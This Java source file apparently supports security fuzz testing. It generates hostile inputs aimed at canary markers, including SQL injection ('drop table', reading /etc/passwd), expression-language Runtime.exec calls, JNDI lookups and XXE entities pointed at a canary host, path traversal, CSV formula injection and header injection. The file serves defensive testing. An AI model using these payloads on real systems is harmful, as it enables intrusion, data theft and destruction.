package org.xincheng.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;

/** Generates hostile texts from a seed. Markup in them is recognised by {@link #MARK}, so that an answer that echoes it is found. */
final class Hostile {

    /** Stands in every text that must not come back as markup, and must not be found in the engine. */
    static final String MARK = "xsscanary";

    private final Random random;
    private final Canary canary;
    private final List<Supplier<String>> grammars = List.of(
            this::expression,
            this::expression,
            this::markup,
            this::markup,
            this::sql,
            this::path,
            this::lines,
            this::invisible,
            this::number,
            this::formula,
            this::template,
            this::lookup,
            this::xml,
            this::unicode,
            this::large,
            this::json,
            this::almostRight);

    Hostile(long seed, Canary canary) {
        this.random = new Random(seed);
        this.canary = canary;
    }

    Random random() {
        return random;
    }

    /** One of these. */
    @SafeVarargs
    final <T> T one(T... of) {
        return of[random.nextInt(of.length)];
    }

    <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    /** True in so many of a hundred cases. */
    boolean in(int percent) {
        return random.nextInt(100) < percent;
    }

    /** A hostile text, sometimes two of them, sometimes with something ordinary around. */
    String text() {
        String text = one(grammars).get();
        if (in(15)) {
            text += one(grammars).get();
        }
        return in(20) ? "样例" + text + "文字" : text;
    }

    /** A text that an address takes. */
    String encoded() {
        return encode(text());
    }

    /** Percent-encoded; now and then wrongly. */
    String encode(String text) {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
        return in(4) ? encoded + one("%", "%zz", "%c0%ae", "%00", "%ff%fe", "%u0041") : encoded;
    }

    /** A date that is one in most cases. */
    String date() {
        return one(
                "2026-03-05",
                "2026-03-02",
                "2026-02-10",
                "2026-02-30",
                "9999-12-31",
                "-0001-01-01",
                "+1000000-01-01",
                "",
                text());
    }

    String digits() {
        StringBuilder digits = new StringBuilder();
        for (int i = random.nextInt(30) + 1; i > 0; i--) {
            digits.append(random.nextInt(10));
        }
        return digits.toString();
    }

    private String expression() {
        String call = one(
                "T(org.xincheng.hostile.Canary).sing()",
                "''.getClass().forName('org.xincheng.hostile.Canary').getMethod('sing').invoke(null)",
                "T(java.lang.System).setProperty('" + Canary.PROPERTY + "','1')",
                "T(java.lang.Runtime).getRuntime().exec('touch " + canary.fileName() + "')",
                "@org.xincheng.hostile.Canary@sing()",
                "new java.net.URL('http://" + canary.host() + "/el').openStream()",
                "execution.setVariable('x','" + MARK + "')",
                "7*7");
        return one(
                        "${%s}",
                        "#{%s}",
                        "*{%s}",
                        "__${%s}__::.x",
                        "%%{%s}",
                        "[[${%s}]]",
                        "$${%s}",
                        "~{::%s}",
                        "{{%s}}",
                        "__*{%s}__")
                .formatted(call);
    }

    private String markup() {
        return one(
                "<" + MARK + ">",
                "\"><" + MARK + " onload=1>",
                "'><" + MARK + ">",
                "\" on" + MARK + "=\"1",
                "</textarea><" + MARK + ">",
                "</title><script><" + MARK + "></script>",
                "<!--<" + MARK + ">-->",
                "<svg><" + MARK + "/onload=1>",
                "&lt;<" + MARK + ">&#x3c;" + MARK + ">",
                "[" + MARK + "](javascript:1)",
                "<img src=http://" + canary.host() + "/img><" + MARK + ">",
                "<th:block th:text=\"${7*7}\"><" + MARK + ">");
    }

    private String sql() {
        return one(
                "'; drop table credit.record; --",
                "' or '1'='1",
                "1); delete from audit.entry; --",
                "\\' or 1=1 --",
                "' union select password from act_id_user --",
                "'||pg_read_file('/etc/passwd')||'",
                "%' and pg_sleep(0)::text <> '",
                "_%_\\",
                "$$;copy (select 1) to program 'touch " + canary.fileName() + "';$$");
    }

    private String path() {
        String up = one("../", "..\\", "..%2f", "%2e%2e/", "....//", "..;/", "..\u2215")
                .repeat(random.nextInt(6) + 1);
        return one("", "/", "file:///", "C:\\", "\\\\" + canary.host() + "\\share\\", "classpath:")
                + up
                + one(
                        "etc/passwd",
                        "tmp/" + canary.fileName(),
                        "application.yaml",
                        "WEB-INF/web.xml",
                        canary.fileName() + ".jsp",
                        "con");
    }

    private String lines() {
        return one("\r\n", "\n", "\r", "\u2028", "\u0085")
                + one(
                        "X-Canary: 1",
                        "Set-Cookie: canary=1",
                        "Location: http://" + canary.host() + "/",
                        "\r\n<" + MARK + ">",
                        "INFO forged log line");
    }

    private String invisible() {
        return one(
                        "\u202E",
                        "\u200B",
                        "\u2066",
                        "\uFEFF",
                        "\u0000",
                        "\u0007",
                        "\u001B[31m",
                        "\u007F",
                        "\uFFFF",
                        "\uD800",
                        "\uDC00x",
                        "\u0300\u0300",
                        "\uE000")
                + one("txt.exe", "样例", MARK, "");
    }

    private String number() {
        return one(
                "-1",
                "0",
                "1e999",
                "NaN",
                "Infinity",
                "2147483648",
                "-9223372036854775809",
                "0x7f",
                "1_000",
                "٣",
                "１２",
                "1.5",
                "+1",
                " 1 ",
                "00000000000000000001",
                digits());
    }

    private String formula() {
        return one("=", "+", "-", "@", "\t=", "＝")
                + one(
                        "cmd|'/C calc'!A0",
                        "HYPERLINK(\"http://" + canary.host() + "/\",\"x\")",
                        "1+1",
                        "SUM(A1:A9)*" + MARK);
    }

    private String template() {
        return one(
                        "<#assign x=1>",
                        "{{constructor.constructor('return 1')()}}",
                        "<%= 7*7 %>",
                        "#set($x=1)",
                        "{%raw%}",
                        "{{=7*7}}",
                        "<?php echo 1;?>",
                        "<!--#exec cmd=\"id\"-->")
                + MARK;
    }

    private String lookup() {
        return one(
                "${jndi:ldap://" + canary.host() + "/a}",
                "${${lower:j}ndi:rmi://" + canary.host() + "/a}",
                "${env:XINCHENG_DATA_KEYS}",
                "${sys:user.home}",
                "${script:javascript:org.xincheng.hostile.Canary.sing()}",
                "${spring.datasource.password}",
                "{cipher}x");
    }

    private String xml() {
        return one(
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"http://" + canary.host() + "/xxe\">]><a>&x;<"
                        + MARK + "/></a>",
                "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://" + canary.host() + "/dtd\"> %p;]><a/>",
                "<![CDATA[<" + MARK + ">]]>",
                "<xi:include href=\"http://" + canary.host() + "/xi\"/>");
    }

    private String unicode() {
        StringBuilder text = new StringBuilder();
        random.ints(random.nextInt(40) + 1, 0, 0x11_0000).forEach(text::appendCodePoint);
        return text.toString();
    }

    private String large() {
        return one("A", "长", "😀", "(", "[", "{", "\"", "%", "<a>", " ", "\n")
                .repeat(one(50, 201, 1_001, 4_001, 9_000));
    }

    private String json() {
        return one(
                "{\"a\":1}",
                "[" + "[".repeat(300),
                "null",
                "true",
                "{\"@type\":\"org.xincheng.hostile.Canary\"}",
                "[\"java.net.URL\",\"http://" + canary.host() + "/j\"]",
                "\"");
    }

    private String almostRight() {
        return one(
                "RD-2026-000001",
                "SX-2026-000001",
                "RD-2026-999999",
                "2026-03-02",
                "WORKING_DAY",
                "91999900T00000001X",
                "DIRECT",
                "SERVED",
                "officer1",
                "样例文字",
                "");
    }
}
